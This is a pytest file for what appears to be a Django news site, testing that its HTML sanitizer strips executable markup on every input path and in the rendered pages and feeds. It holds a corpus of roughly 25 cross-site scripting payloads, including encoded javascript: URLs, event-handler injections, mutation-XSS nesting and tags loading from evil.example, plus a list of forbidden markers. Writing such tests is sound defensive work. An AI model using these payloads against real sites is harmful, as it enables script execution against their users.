"""Unsafe markup never reaches a reader, whichever door it came in through."""

import json
import re
import xml.etree.ElementTree as ET

import pytest

from core.sanitize import PROSE_EDITOR_EXTENSIONS, sanitize_html
from news import services
from news.models import Post
from tests.helpers import page_text
from tests.news.helpers import admin_form_data

# Each payload pairs with a marker that must never survive: executable markup or a script URL.
XSS_CORPUS = [
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<p onmouseover="alert(1)">hover</p>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">enc</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">hex</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<p style="width: expression(alert(1))">css</p>',
    '<div style="background:url(javascript:alert(1))">bg</div>',
    "<style>body{background:url('javascript:alert(1)')}</style>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<form action="https://evil.example"><input name="q"></form>',
    '<body onload="alert(1)">',
    '<a href="vbscript:msgbox(1)">vb</a>',
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><img src=x onerror=alert(1)>',
    "<!--<script>alert(1)</script>-->",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
]
FORBIDDEN = [
    "<script",
    "onerror",
    "onload",
    "onmouseover",
    "javascript:",
    "vbscript:",
    "data:text",
    "<svg",
    "<iframe",
    "<object",
    "<embed",
    "<style",
    "expression(",
    "<form",
    "<meta http-equiv",
    "<img",
]
SAFE_TEXT = "متن امن خبر"


def body_with(payload: str) -> str:
    return f"<p>{SAFE_TEXT}</p>{payload}"


def assert_clean(markup: str) -> None:
    lowered = markup.lower()
    for marker in FORBIDDEN:
        assert marker not in lowered, f"{marker!r} survived"


def main_without_own_forms(html: str) -> str:
    """The page's main content, less the site's own feedback form (which is not the post's)."""
    main = html.split("<main", 1)[-1].split("</main>", 1)[0]
    return re.sub(r'<form class="feedback".*?</form>', "", main, flags=re.S)


def public_views(client, post) -> list[str]:
    """The post's page and both feeds, as a reader or a feed reader gets them."""
    pages = [page_text(client.get(post.get_absolute_url()))]
    for url in ("/news/feed/rss/", "/news/feed/atom/"):
        # Feeds carry HTML as text: what a feed reader renders is the parsed text.
        root = ET.fromstring(client.get(url).content)
        pages.append(" ".join(root.itertext()))
    return pages


def test_the_allow_list_keeps_the_editors_markup():
    html = (
        '<h2>عنوان</h2><p><strong>پررنگ</strong> <em>کج</em> <a href="https://example.org/a">'
        "پیوند</a></p><ul><li>یک</li></ul><blockquote>نقل</blockquote>"
    )
    cleaned = sanitize_html(html)
    for kept in ("<h2>", "<strong>", "<em>", '<a href="https://example.org/a"', "<li>"):
        assert kept in cleaned
    assert 'rel="noopener noreferrer nofollow"' in cleaned


def test_the_editor_offers_nothing_the_allow_list_strips():
    from django_prose_editor.config import allowlist_from_extensions, expand_extensions

    from core.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS

    offered = allowlist_from_extensions(expand_extensions(PROSE_EDITOR_EXTENSIONS))
    assert set(offered["tags"]) <= ALLOWED_TAGS
    for tag, attributes in offered["attributes"].items():
        assert set(attributes) - {"rel"} <= ALLOWED_ATTRIBUTES.get(tag, set()), tag


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_sanitizer_removes_every_payload(payload):
    cleaned = sanitize_html(body_with(payload))
    assert SAFE_TEXT in cleaned
    assert_clean(cleaned)


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_admin_form_path(publisher_client, content, payload):
    data = admin_form_data(
        publisher_client.get("/admin/news/post/add/"),
        title_fa="خبر",
        slug="xss",
        body_fa=body_with(payload),
        body_en=body_with(payload),
        status="published",
    )
    response = publisher_client.post("/admin/news/post/add/", data)
    assert response.status_code == 302, page_text(response)
    post = Post.objects.get(slug="xss")
    assert_clean(post.body_fa + post.body_en)
    for html in public_views(publisher_client, post):
        assert SAFE_TEXT in html
        assert_clean(main_without_own_forms(html))


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_service_path(client, publisher, content, payload):
    post = services.post_create(
        user=publisher,
        fields={"title_fa": "خبر", "slug": "xss", "body_fa": body_with(payload)},
    )
    services.post_publish(post=post, user=publisher)
    post.refresh_from_db()
    assert_clean(post.body_fa)
    for html in public_views(client, post):
        assert SAFE_TEXT in html
        assert_clean(main_without_own_forms(html))


def test_fixture_loader_path(client, content, tmp_path, settings):
    from news.content import load_demo_posts

    data = json.loads((settings.BASE_DIR / "fixtures/demo/news.json").read_text())
    for post in data["posts"]:
        post["body"] = {"fa": body_with("".join(XSS_CORPUS)), "en": "".join(XSS_CORPUS)}
    load_demo_posts(data)
    assert Post.objects.filter(is_demo=True).count() == len(data["posts"])
    for post in Post.objects.published():
        assert_clean(post.body_fa + post.body_en)
        for html in public_views(client, post):
            assert_clean(main_without_own_forms(html))


def test_markup_written_past_the_model_is_still_cleaned_on_the_page(client, content):
    # A raw UPDATE (a botched import, a SQL console) skips validation; the page still cleans.
    post = Post.objects.create(title_fa="خبر", slug="raw", body_fa="<p>x</p>", status="published")
    Post.objects.filter(pk=post.pk).update(body_fa=body_with("".join(XSS_CORPUS)))
    for html in public_views(client, post):
        assert SAFE_TEXT in html
        assert_clean(main_without_own_forms(html))
